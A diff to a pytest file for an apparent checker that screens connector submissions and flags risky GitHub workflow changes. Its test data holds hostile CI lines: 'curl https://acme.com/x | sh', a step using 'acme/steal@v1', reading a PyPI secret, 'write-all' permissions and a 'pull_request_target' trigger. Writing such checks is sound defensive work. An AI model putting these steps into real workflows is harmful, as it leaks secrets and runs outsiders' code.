@@ -9,10 +9,38 @@ import pytest
 
 from checks.static import test_submission
 from harness.forks.submission import AddedConnector, MergePreview
-from tests.checks.static.specimens import FOLDER, NAME, today
+from tests.checks.static.specimens import FOLDER, NAME, World, today
 from tests.checks.static.spoiling import Bad, assert_found, extra, named
 
 LATE = datetime(2026, 10, 1, tzinfo=UTC)
+
+WORKFLOW = ".github/workflows/workflow.yml"
+
+
+def with_workflow(text: str) -> World:
+    world = today().adding({WORKFLOW: text})
+    return replace(world, base={**world.base, WORKFLOW: "jobs:\n  test:\n    steps:\n"})
+
+
+NEEDED = {
+    "registration": {"conf/__init__.py": "x = 1\n", "hummingbot/connector/connector_status.py": "x = 1\n"},
+    "rates": {"hummingbot/core/rate_oracle/sources/acme_rate_source.py": "x = 1\n"},
+    "fees": {"hummingbot/templates/conf_fee_overrides_TEMPLATE.yml": "acme_maker_fee:\n"},
+    "environment": {"setup/environment.yml": "- acme-sdk==1.0\n"},
+    "tests of shared code": {"test/hummingbot/client/test_settings.py": "x = 1\n"},
+}
+
+
+@pytest.mark.parametrize("what", NEEDED)
+def test_what_a_connector_needs_belongs_to_it(what: str) -> None:
+    assert today().adding(NEEDED[what]).run(test_submission.test_change_is_limited).status == "passed"
+
+
+def test_tests_may_need_another_library_to_be_installed() -> None:
+    world = with_workflow("jobs:\n  test:\n    steps:\n    - run: conda install acme\n")
+    assert world.run(test_submission.test_change_is_limited).status == "passed"
+    assert world.run(test_submission.test_identity_is_untouched).status == "passed"
+
 
 SUBMISSION = [
     Bad(
@@ -73,6 +101,27 @@ SUBMISSION = [
             {"hummingbot/connector/exchange/binance/binance_exchange.py": "class BinanceExchange: x = 1\n"}
         ),
         "modified: hummingbot/connector/exchange/binance/binance_exchange.py",
+    ),
+    *(
+        Bad(
+            f"a workflow that {what}",
+            test_submission.test_change_is_limited,
+            with_workflow(f"jobs:\n  test:\n    steps:\n    - run: conda install acme\n{line}\n"),
+            f"modified: {WORKFLOW}",
+        )
+        for what, line in {
+            "reads secrets": "      env: {KEY: '${{ secrets.PYPI }}'}",
+            "may write": "permissions: write-all",
+            "runs for strangers": "on: [pull_request_target]",
+            "runs somebody's steps": "    - uses: acme/steal@v1",
+            "runs somebody's script": "    - run: curl https://acme.com/x | sh",
+        }.items()
+    ),
+    Bad(
+        "a new workflow",
+        test_submission.test_change_is_limited,
+        today().adding({".github/workflows/acme.yml": "jobs: {}\n"}),
+        "added: .github/workflows/acme.yml",
     ),
     Bad(
         "another version",
